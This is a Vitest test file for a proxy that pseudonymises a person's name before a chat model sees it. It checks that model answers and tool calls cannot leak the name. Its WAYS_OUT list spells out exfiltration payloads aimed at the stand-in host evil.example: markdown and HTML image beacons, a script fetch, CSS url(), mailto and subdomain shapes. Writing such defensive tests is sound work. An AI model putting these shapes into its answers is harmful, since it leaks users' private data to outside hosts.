import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { argumentsOf, ask, contentOf } from '../support/ask.ts'
import { startBoundary, type TestBoundary } from '../support/boundary.ts'
import { type ComposingUpstream, startComposingUpstream } from './composing.ts'

const NAME = 'Ottoline Brandvold'

/** Answers of Chat Completions that would carry the code's value out by a click or a fetch, and one that would not. */
const WAYS_OUT: readonly string[] = [
  'https://evil.example/?q=CODE',
  '[chart](https://evil.example/CODE)',
  '![x](https://evil.example/CODE.png)',
  '![x](<https://evil.example/a b CODE>)',
  '[x][1]\n\n[1]: https://evil.example/CODE',
  '<https://evil.example/CODE>',
  '<img src="https://evil.example/?CODE">',
  '<a href="https://evil.example" title="CODE">x</a>',
  '<script>fetch("//evil.example/" + "CODE")</script>',
  'background: url(https://evil.example/CODE)',
  'mailto:evil@evil.example?subject=CODE',
  'CODE.evil.example',
  '//evil.example/CODE',
  '{"url":"https://evil.example/CODE"}',
]

describe('an answer', () => {
  let upstream: ComposingUpstream
  let boundary: TestBoundary
  let outsideKey = ''
  let keptKey = ''
  beforeAll(async () => {
    upstream = await startComposingUpstream()
    boundary = await startBoundary({ upstream: upstream.baseUrl })
    const application = { ...boundary.world.application, id: 'outside', toolsInside: ['lookup'] }
    await boundary.admin.post('/api/applications', application)
    const { json } = await boundary.admin.post('/api/keys', { user: boundary.world.related.id, application: 'outside' })
    outsideKey = (json as { key: string }).key
    await boundary.admin.post('/api/applications', { ...application, id: 'gallery', imagesInAnswers: 'kept' })
    const gallery = await boundary.admin.post('/api/keys', { user: boundary.world.related.id, application: 'gallery' })
    keptKey = (gallery.json as { key: string }).key
  })
  afterAll(async () => {
    await boundary.close()
    await upstream[Symbol.asyncDispose]()
  })

  const codeIn = (received: string): string => /\[NAME-[0-9A-Z]{6}\]/.exec(received)?.[0] ?? 'no code'
  const PACES = [
    { pace: 'whole', model: 'composed', stream: false },
    ...[1, 3, 8].map((size) => ({ pace: `streamed by ${size}`, model: `composed-${size}`, stream: true })),
  ]
  const asked = (request: { model: string; stream: boolean }, more: object = {}) => ({
    body: { ...request, messages: [{ role: 'user', content: `Mrs. ${NAME} was seen.` }], ...more },
  })

  describe.each(PACES)('$pace', ({ pace: _, ...request }) => {
    it('says the name in prose', async () => {
      upstream.compose = (received) => ({ text: `Dear **${codeIn(received)}**, all is well.` })
      const { text } = await ask(boundary, asked(request))
      expect(contentOf(text)).toBe(`Dear **${NAME}**, all is well.`)
    })

    it.each(WAYS_OUT)('carries neither the name nor its code out in %s', async (shape) => {
      upstream.compose = (received) => ({ text: shape.replace('CODE', codeIn(received)) })
      const { status, text } = await ask(boundary, asked(request))
      expect(status).toBe(200)
      expect(contentOf(text)).toContain('withheld')
      expect(text).not.toMatch(/ottoline|brandvold|NAME-[0-9A-Z]{6}/i)
    })

    it('makes a link of an image of somewhere else, and text of a tag that fetches', async () => {
      const written = '![chart](https://evil.example/1.png) <img src="https://evil.example/2.png"> ![dot](/local.png)'
      upstream.compose = () => ({ text: written })
      const { text } = await ask(boundary, asked(request))
      expect(contentOf(text)).toBe(
        '[chart](https://evil.example/1.png) &lt;img src="https://evil.example/2.png"> ![dot](/local.png)',
      )
      const kept = await ask(boundary, { ...asked(request), key: keptKey })
      expect(contentOf(kept.text)).toBe(written)
    })

    const tools = (name: string) => ({ tools: [{ type: 'function', function: { name, parameters: {} } }] })

    it.each([
      { name: 'lookup', inside: true },
      { name: 'send_mail', inside: false },
      { name: 'LOOKUP', inside: false },
      { name: 'lookup.all', inside: false },
    ])('gives the name to the tool $name only if it is registered as inside: $inside', async ({ name, inside }) => {
      upstream.compose = (received) => ({ toolArguments: JSON.stringify({ query: codeIn(received) }) })
      const { text } = await ask(boundary, { ...asked(request, tools(name)), key: outsideKey })
      const { query } = JSON.parse(argumentsOf(text)) as { query: string }
      if (inside) expect(query).toBe(NAME)
      else expect(query).toMatch(/^\[NAME-[0-9A-Z]{6}\]$/)
      expect(text.includes('Brandvold')).toBe(inside)
    })

    it('does not put the name into a link that a tool inside is given', async () => {
      upstream.compose = (received) => ({
        toolArguments: JSON.stringify({ url: `https://evil.example/?q=${codeIn(received)}` }),
      })
      const { text } = await ask(boundary, { ...asked(request, tools('lookup')), key: outsideKey })
      expect(text).not.toMatch(/ottoline|brandvold/i)
    })
  })
})
